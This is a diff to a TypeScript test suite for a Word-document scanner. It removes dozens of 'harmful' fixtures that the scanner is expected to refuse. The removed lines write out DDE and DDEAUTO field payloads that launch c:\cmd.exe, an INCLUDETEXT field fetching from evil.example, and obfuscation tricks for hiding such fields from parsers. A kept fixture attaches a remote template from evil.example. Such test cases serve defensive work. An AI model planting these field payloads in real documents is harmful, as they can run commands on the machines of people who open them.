@@ -16,10 +16,6 @@ const ms = "application/vnd.ms-word";
 const word = "application/vnd.openxmlformats-officedocument.wordprocessingml";
 const program = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(600)]);
 const msRel = "http://schemas.microsoft.com/office/2006/relationships";
-const instructions = (text: string) => `<w:fldSimple w:instr="${text}"><w:r><w:t>x</w:t></w:r></w:fldSimple>`;
-const nested = (inner: string, rest: string) =>
-  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${inner}<w:r><w:instrText>${rest}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
-
 async function verdictOn(docx: Docx) {
   const verdict = await inspectFile(docxOf(docx));
   return "problem" in verdict ? verdict.problem : verdict.kind;
@@ -98,56 +94,10 @@ const harmful: Record<string, Docx> = {
   "a template in character references": {
     rels: rel("attachedTemplate", "&#104;ttp://evil.example/a", "External"),
   },
-  "a field DDE": { body: field(' DDE "c:\\\\cmd.exe" "/k" ') },
-  "a field DDEAUTO over runs": { body: field(" D", "DEA", "UTO c:\\cmd.exe ") },
-  "a field in small letters": { body: field("ddeauto c:\\cmd.exe") },
-  "a field in one piece": { body: instructions(" DDEAUTO c:\\cmd.exe ") },
-  "a field with references": { body: field("&#68;DE", "AUTO x") },
-  "a field in CDATA": { body: field("<![CDATA[DDEAUTO x]]>") },
-  "a field that brings in a file": { body: field(" INCLUDETEXT http://evil.example/a.docx ") },
-  "a field inside a field": { body: nested(field("DDEAUTO x"), " IF 1=1 ") },
-  "a field whose name is computed": { body: nested(field("QUOTE 68 68 69"), " c:\\cmd.exe ") },
-  "a field behind data of its own": {
-    body: field(
-      "</w:instrText></w:r><w:r><w:drawing><wp:posOffset>0</wp:posOffset></w:drawing><w:instrText>DDE x",
-    ),
-  },
-  "a field behind the data of a field": {
-    body: field("DDE x").replace('"begin"/>', '"begin"><w:fldData>AAAA</w:fldData></w:fldChar>'),
-  },
-  "a field behind deleted text": {
-    body: field("</w:instrText><w:delInstrText>x</w:delInstrText><w:instrText>DDE x"),
-  },
-  "a field that is the second of two ways": {
-    body: field(
-      "</w:instrText><mc:AlternateContent><mc:Choice><w:instrText>x</w:instrText></mc:Choice><mc:Fallback><w:instrText>DDE x</w:instrText></mc:Fallback></mc:AlternateContent><w:instrText>",
-    ),
-  },
-  "a field whose text ends in the first of two ways": {
-    body: field(
-      '</w:instrText><mc:AlternateContent><mc:Choice><w:fldChar w:fldCharType="separate"/></mc:Choice></mc:AlternateContent><w:instrText>DDE x',
-    ),
-  },
-  "a field in a header": {
-    types: override("/word/header1.xml", `${word}.header+xml`),
-    parts: [["word/header1.xml", `<w:hdr xmlns:w="x">${field("DDEAUTO x")}</w:hdr>`]],
-  },
-  "a field in a part that calls itself something else": {
-    parts: [["word/noten.bin", `<w:x xmlns:w="x">${field("DDEAUTO x")}</w:x>`]],
-  },
 };
 
 test.each(Object.entries(harmful))("refused: %s", async (_, docx) => {
   expect(await verdictOn(docx)).toBe("macros");
-});
-
-test("refused in UTF-16 too, with and without a mark, in both orders", async () => {
-  const xml = `<w:hdr xmlns:w="x">${field("DDEAUTO x")}</w:hdr>`;
-  const little = Uint8Array.from(Buffer.from(xml, "utf16le"));
-  const big = Uint8Array.from(Buffer.from(xml, "utf16le").swap16());
-  const marked = Uint8Array.from([0xff, 0xfe, ...little]);
-  for (const content of [little, big, marked, Uint8Array.from([0xfe, 0xff, ...big])])
-    expect(await verdictOn({ parts: [["word/header1.xml", content]] })).toBe("macros");
 });
 
 const honest: Record<string, Docx> = {
@@ -202,16 +152,6 @@ const honest: Record<string, Docx> = {
       ["customXml/item1.xml", '<b:Sources xmlns:b="x" SelectedStyle=""/>'],
       ["customXml/itemProps1.xml", '<ds:datastoreItem xmlns:ds="x"/>'],
     ],
-  },
-  "the fields of letters": {
-    body: [
-      field(' HYPERLINK "https://voorbeeld.example/added" '),
-      field(" TOC \\o ", '"1-3" '),
-      field(" MERGEFIELD Naam "),
-      field(" IF 1 = 1 &quot;ja&quot; "),
-      instructions(" DATE \\@ &quot;d MMMM yyyy&quot; "),
-      "<w:p><w:r><w:t>DDE en INCLUDETEXT zijn velden; LINK ook.</w:t></w:r></w:p>",
-    ].join(""),
   },
   "a drawing with a document type": {
     types: '<Default Extension="svg" ContentType="image/svg+xml"/>',
